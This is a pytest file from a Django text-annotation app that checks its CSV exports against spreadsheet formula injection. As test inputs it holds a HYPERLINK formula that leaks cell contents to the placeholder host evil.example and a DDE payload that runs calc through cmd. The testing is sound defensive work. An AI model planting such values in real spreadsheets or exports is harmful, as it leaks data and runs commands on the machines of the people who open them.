"""Every CSV the workbench writes is safe to open in a spreadsheet: no text cell starts a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.exceptions import ValidationError

from annotator.accounts import services as accounts
from annotator.agreement.computation import recompute
from annotator.annotation import services as annotation_services
from annotator.core.tagsets import VILA_NAME
from annotator.corpus import projects
from annotator.corpus.exports import FORMATS, export_project
from annotator.corpus.spreadsheet import safe_cell
from annotator.models import Tagset
from annotator.projects import services as project_setup

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tTAB", "'\tTAB"),
        ("-0.10", "-0.10"),  # a figure stays a figure
        ("+3", "+3"),
        ("1e-5", "1e-5"),
        (-0.1, -0.1),
        ("plain text", "plain text"),
        ("", ""),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def csv_exports(project) -> list[tuple[str, bytes]]:
    """Every CSV export the app offers (every format whose content type is text/csv)."""
    found = []
    for fmt in FORMATS:
        for options in ({}, {"report_format": "csv"}, {"annotator": "@eve"}):
            try:
                exported = export_project(fmt, project, **options)
            except (ValueError, ValidationError):  # options this format does not take
                continue
            if exported.content_type == "text/csv":
                found.append((exported.filename, exported.data))
    return found


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return not any(c.isalpha() for c in cell.lower().replace("e", ""))  # not inf, nan


def opens_as_text_only(data: bytes) -> list[str]:
    """The cells a spreadsheet would run as formulas, judged as a spreadsheet reads the file (not by
    the function that writes it): a cell starting with = + - @ tab or CR that is not a plain number."""
    return [
        cell
        for row in csv.reader(io.StringIO(data.decode("utf-8")))
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not is_number(cell)
    ]


def test_the_judge_of_live_cells_is_not_fooled():
    out = io.StringIO()
    csv.writer(out).writerow([HOSTILE, "-0.10", "+cmd", "@x", "plain", "1e-5", "-inf"])
    hostile = out.getvalue().encode()
    assert opens_as_text_only(hostile) == [HOSTILE, "+cmd", "@x", "-inf"]


def test_no_csv_export_holds_a_live_formula():
    lead = accounts.create_account("lead", "lead-pass-123")
    eve = accounts.create_account("@eve", "eve-pass-123")  # Django allows @ + - in usernames
    tagset = Tagset.objects.get(name=VILA_NAME)
    project = project_setup.create_project(lead, name="Hostile", tagset=tagset, annotators=[eve])
    pair = projects.add_pair(project, "=1+1", tokens1=["=cmd", "-x", "text"], tokens2=["@a", "+b", "text"])
    projects.assign_pairs(project, [eve], [pair])
    ptype = tagset.types.filter(projection_required=False, scope_sides="both").first()
    annotation_services.add_phenomenon(
        pair, eve, ptype, scope1=[0, 1], scope2=[0, 1], comment=HOSTILE, base_version=None
    )
    recompute(project.pk)
    exports = csv_exports(project)
    names = {name.removeprefix("Hostile-") for name, _ in exports}
    assert names == {"agreement.csv", "phenomena-all.csv", "phenomena-@eve.csv"}  # phenomena, report
    for name, data in exports:
        assert opens_as_text_only(data) == [], name
    phenomena = next(data for name, data in exports if name.endswith("-all.csv")).decode()
    assert "'" + HOSTILE.replace('"', '""') in phenomena  # kept, readable, inert
    assert "'=cmd '-x" in phenomena or "'=cmd -x" in phenomena
